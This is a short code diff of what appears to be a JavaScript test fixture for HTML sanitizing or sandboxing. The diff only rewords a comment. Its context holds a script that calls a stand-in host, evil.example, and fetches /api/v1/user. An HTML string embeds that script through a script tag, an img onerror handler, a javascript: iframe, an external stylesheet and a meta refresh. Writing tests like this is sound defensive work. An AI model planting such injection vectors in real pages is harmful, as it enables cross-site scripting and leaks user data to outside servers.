@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 
-/** A script that would tell of itself: in the page, to the user, and to somebody else's server. */
+/** A script that would show itself: in the page, to the user, and to another server. */
 const script = `window.ran = 1; top.ran = 1; alert('ran'); fetch('https://evil.example/ran'); fetch('/api/v1/user')`;
 const picture = 'https://evil.example/picture.png';
 const html = `<!doctype html><title>Title</title><script>${script}</script><img src="${picture}" onerror="${script}"><iframe src="javascript:${script}"></iframe><link rel=stylesheet href="https://evil.example/a.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`;
